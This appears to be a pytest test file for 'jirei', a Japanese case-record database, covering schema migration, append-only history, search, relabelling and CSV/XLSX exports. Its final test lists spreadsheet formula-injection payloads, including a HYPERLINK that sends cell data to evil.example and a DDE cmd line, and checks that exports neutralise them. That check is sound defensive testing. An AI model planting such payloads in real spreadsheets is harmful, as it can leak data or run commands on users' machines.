"""The case store on real seed cases: schema, refusal of foreign files, history, conflicts,
full-text search (short terms included), relabelling that keeps reviewers' values, exports."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from jirei.cli import main
from jirei.extract.ingest import ingest
from jirei.extract.segment import segment
from jirei.extract.text import normalise
from jirei.store import SCHEMA_VERSION, CaseQuery, ConflictError, Store, StoreError

from conftest import seed_file


def _doc_fields(doc) -> dict:
    return {"doc_id": doc.doc_id, "name": doc.name, "path": doc.path, "kind": doc.kind, "text": doc.text,
            "pages": [], "doc_date": doc.doc_date, "encoding": doc.encoding, "warnings": doc.warnings}


@pytest.fixture()
def store(tmp_path: Path, seeds_dir: Path) -> Store:
    """A store holding the segmented cases of seeds 003 and 004 (no NLP: fast)."""
    s = Store(tmp_path / "jirei.db")
    for prefix in ("003", "004"):
        doc = ingest(seed_file(prefix, seeds_dir))
        s.save_document(_doc_fields(doc), [c.to_json() for c in segment(doc)], run_id=None, model_version=None)
    yield s
    s.close()


def _texts(store: Store) -> dict[str, str]:
    records, _ = store.query_cases(CaseQuery())
    return {r["case_id"]: r["text"] for r in records}


def _search(store: Store, words: str) -> set[str]:
    records, total = store.query_cases(CaseQuery(search=words))
    assert total == len(records)
    return {r["case_id"] for r in records}


def test_new_store_has_schema_wal_and_foreign_keys(store: Store):
    assert store.schema_version() == SCHEMA_VERSION
    assert store.conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert store.conn.execute("PRAGMA foreign_keys").fetchone()[0] == 1
    assert store.case_count() == 101  # 54 slide cases + 47 chamber cases


def test_foreign_files_are_refused_and_left_untouched(tmp_path: Path):
    text = tmp_path / "notes.db"
    text.write_text("これはデータベースではありません", encoding="utf-8")
    other = tmp_path / "other.db"
    con = sqlite3.connect(other)
    con.execute("CREATE TABLE t (x)")
    con.commit()
    con.close()
    for path in (text, other):
        before = path.read_bytes()
        with pytest.raises(StoreError) as err:
            Store(path)
        assert "not a Jirei store" in str(err.value) and str(path) in str(err.value)
        assert "\n" not in str(err.value)
        assert path.read_bytes() == before


def test_store_from_a_newer_jirei_is_refused(tmp_path: Path):
    path = tmp_path / "new.db"
    Store(path).close()
    con = sqlite3.connect(path)
    con.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    con.commit()
    con.close()
    before = path.read_bytes()
    with pytest.raises(StoreError, match="newer Jirei"):
        Store(path)
    assert path.read_bytes() == before


def test_an_older_store_is_migrated_in_place(tmp_path: Path, monkeypatch, seeds_dir: Path):
    import jirei.store as store_mod

    path = tmp_path / "v1.db"
    monkeypatch.setattr(store_mod, "SCHEMA_VERSION", 1)
    with Store(path) as old:
        doc = ingest(seed_file("003", seeds_dir))
        old.save_document(_doc_fields(doc), [c.to_json() for c in segment(doc)], run_id=None, model_version=None)
        assert old.schema_version() == 1
        assert not old.conn.execute("SELECT 1 FROM sqlite_master WHERE name = 'users'").fetchone()
    monkeypatch.undo()
    with Store(path) as new:
        assert new.schema_version() == SCHEMA_VERSION
        assert new.case_count() == 54
        new.add_user("ana", "reviewer", "hash")
        assert new.user("ana")["role"] == "reviewer"
        # migration 4: sessions (only a token's hash) and kept review forms
        new.start_session("ab" * 32, "ana", "127.0.0.1", "2999-01-01T00:00:00.000+00:00", purge_before="")
        assert new.session("ab" * 32)["user"] == "ana" and new.end_user_sessions("ana") == 1
        case_id = new.iter_case_ids()[0]
        assert new.save_draft("ana", case_id, [("note", "メモ")])
        assert new.take_draft("ana", case_id)["form"] == [("note", "メモ")] and new.take_draft("ana", case_id) is None


def test_cli_reports_a_refused_store_in_one_line(tmp_path: Path, capsys):
    path = tmp_path / "x.db"
    path.write_text("hello", encoding="utf-8")
    with pytest.raises(SystemExit) as exit_:
        main(["cases", "--db", str(path)])
    assert exit_.value.code == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "not a Jirei store" in err


def test_history_is_append_only(store: Store):
    case_id = next(iter(_texts(store)))
    store.set_field(case_id, "pillar", {"label": "work"}, "ana", source="reviewer:ana")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        with store.transaction() as db:
            db.execute("UPDATE history SET who = 'mallory'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        with store.transaction() as db:
            db.execute("DELETE FROM history")
    fields = [h["field"] for h in store.history(case_id)]
    assert fields == ["case", "pillar"]


def test_undo_is_a_new_entry(store: Store):
    case_id = next(iter(_texts(store)))
    store.set_field(case_id, "pillar", {"label": "work"}, "ana", source="reviewer:ana")
    change = store.history(case_id)[-1]
    store.undo(change["id"], "ana")
    assert store.case(case_id)["pillar"] is None
    entries = store.history(case_id)
    assert [e["field"] for e in entries] == ["case", "pillar", "pillar"]
    assert entries[-1]["note"] == f"undo #{change['id']}" and entries[-1]["new"] is None


def test_set_field_records_old_and_new_and_refuses_stale_versions(store: Store):
    case_id = next(iter(_texts(store)))
    v1 = store.case(case_id)["version"]
    v2 = store.set_field(case_id, "pillar", {"label": "nurture"}, "ana", source="reviewer:ana", expected_version=v1)
    assert v2 == v1 + 1
    last = store.history(case_id)[-1]
    assert (last["who"], last["field"], last["old"], last["new"]) == ("ana", "pillar", None, {"label": "nurture"})
    with pytest.raises(ConflictError) as err:
        store.set_field(case_id, "pillar", {"label": "live"}, "ben", source="reviewer:ben", expected_version=v1)
    assert "ana" in str(err.value)
    case = store.case(case_id)
    assert case["pillar"] == {"label": "nurture"} and case["sources"]["pillar"] == ["reviewer:ana"]


def test_search_long_and_short_terms_match_the_text(store: Store):
    texts = _texts(store)
    for words in ("商工会議所", "東京", "人材", "人材 育成", "東京 商工会議所", "IT"):
        terms = normalise(words).split()
        expected = {cid for cid, t in texts.items() if all(term.lower() in t.lower() for term in terms)}
        assert expected, words
        assert _search(store, words) == expected, words


def test_search_query_is_normalised_like_the_text(store: Store):
    assert _search(store, "ＡＢＩＣ") == _search(store, "ABIC") != set()
    assert _search(store, "東京\u3000商工会議所") == _search(store, "東京 商工会議所")


def test_search_treats_query_syntax_as_text(store: Store):
    assert _search(store, 'AND OR "') == set()
    assert _search(store, "100%") == {cid for cid, t in _texts(store).items() if "100%" in t}


def test_filters_combine(store: Store):
    doc_004 = ingest(seed_file("004")).doc_id
    records, total = store.query_cases(CaseQuery(doc_id=doc_004[:12], search="人材", limit=3))
    assert total == sum(1 for r in store.query_cases(CaseQuery(doc_id=doc_004))[0] if "人材" in r["text"])
    assert len(records) == 3 and all(r["doc_id"] == doc_004 for r in records)


def test_relabel_keeps_reviewer_values(store: Store):
    from jirei.classify.predict import CaseClassifier
    from jirei.relabel import relabel_store

    classifier = CaseClassifier.load()
    first = relabel_store(store, classifier)
    assert first.cases == 101 and first.changes["pillar"] == 101  # stored without labels
    again = relabel_store(store, classifier)
    assert again.changed_cases == 0
    a, b = list(_texts(store))[:2]
    model_pillar = store.case(a)["pillar"]["label"]
    other = next(p for p in ("live", "work", "nurture", "interact") if p != model_pillar)
    store.set_field(a, "pillar", {"label": other}, "ana", source="reviewer:ana")
    store.set_field(b, "pillar", {"label": "live", "source": "model", "model": "old"}, "model@old")
    third = relabel_store(store, classifier)
    assert store.case(a)["pillar"] == {"label": other}
    assert third.changes == {"pillar": 1} and third.kept_reviewer == 1
    last = store.history(b)[-1]
    assert last["who"] == f"model@{classifier.version}" and last["model_version"] == classifier.version
    assert last["old"]["label"] == "live"

    # a reviewer who clears the action items leaves no value to carry a source: still theirs
    c = next(cid for cid in _texts(store) if cid != a and store.case(cid)["action_items"])
    store.set_field(c, "action_items", [], "ana", source="reviewer:ana")
    fourth = relabel_store(store, classifier)
    assert store.case(c)["action_items"] == [] and fourth.changed_cases == 0
    assert fourth.kept_reviewer == 2
    # undoing that change gives the field back to the model
    store.undo(store.history(c)[-1]["id"], "ana")
    assert store.case(c)["action_items"] and relabel_store(store, classifier).kept_reviewer == 1


def test_cases_table_and_exports(store: Store, tmp_path: Path, capsys):
    db = str(store.path)
    assert main(["cases", "--db", db, "--search", "東京", "--limit", "0"]) == 0
    table = capsys.readouterr().out
    hits = _search(store, "東京")
    assert f"{len(hits)} of {len(hits)} cases" in table
    assert all(cid in table for cid in hits)

    out = tmp_path / "cases.csv"
    assert main(["export", "--db", db, "--format", "csv", "-o", str(out)]) == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 101 and rows[0]["case_id"] and "商工会議所" in data.decode("utf-8-sig")

    out932 = tmp_path / "cases-cp932.csv"
    assert main(["export", "--db", db, "--format", "csv", "--encoding", "cp932", "-o", str(out932)]) == 0
    assert list(csv.DictReader(io.StringIO(out932.read_bytes().decode("cp932"))))[0]["title"] == rows[0]["title"]

    jl = tmp_path / "cases.jsonl"
    assert main(["export", "--db", db, "--format", "jsonl", "-o", str(jl)]) == 0
    first = json.loads(jl.read_text(encoding="utf-8").splitlines()[0])
    assert first["review_status"] == "unreviewed" and first["history_count"] == 1
    assert first["text"] == store.case(first["case_id"])["text"]

    xl = tmp_path / "cases.xlsx"
    assert main(["export", "--db", db, "--format", "xlsx", "-o", str(xl)]) == 0
    from openpyxl import load_workbook

    sheet = load_workbook(xl).active
    assert sheet.max_row == 102 and sheet.cell(2, 1).value == rows[0]["case_id"]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\tIMPORTXML(1)", "＝1+1"]


def test_exports_never_write_a_formula(store: Store, tmp_path: Path, seeds_dir: Path):
    """A title from an untrusted document and organisations a reviewer typed, each reading like a
    formula: CSV cells start with `'`, XLSX cells are strings (no formula element in the sheet)."""
    from zipfile import ZipFile

    from openpyxl import load_workbook

    case_id = store.iter_case_ids()[0]
    orgs = [{"name": f, "text": f, "source": "reviewer", "reviewer": "ana"} for f in FORMULAS]
    store.set_field(case_id, "organisations", orgs, "ana", source="reviewer:ana")
    # a document whose heading is a formula: a real seed case, retitled, stored as another document
    doc = ingest(seed_file("001", seeds_dir))
    cases = [c.to_json() for c in segment(doc)][:1]
    cases[0]["title"] = FORMULAS[0]
    store.save_document(_doc_fields(doc), cases, run_id=None, model_version=None)
    db = str(store.path)

    out = tmp_path / "cases.csv"
    assert main(["export", "--db", db, "--format", "csv", "-o", str(out)]) == 0
    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))}
    assert rows[case_id]["organisations"] == "'" + "; ".join(FORMULAS)
    assert rows[cases[0]["case_id"]]["title"] == "'" + FORMULAS[0]
    cells = [v for r in rows.values() for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r＝＋－＠"]

    xl = tmp_path / "cases.xlsx"
    assert main(["export", "--db", db, "--format", "xlsx", "-o", str(xl)]) == 0
    sheet = load_workbook(xl).active
    header = [c.value for c in sheet[1]]
    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    org_cell = by_id[case_id][header.index("organisations")]
    title_cell = by_id[cases[0]["case_id"]][header.index("title")]
    assert org_cell.value == "; ".join(FORMULAS) and org_cell.data_type == "s"  # the value itself, as text
    assert title_cell.value == FORMULAS[0] and title_cell.data_type == "s" and title_cell.quotePrefix
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with ZipFile(xl) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode("utf-8")
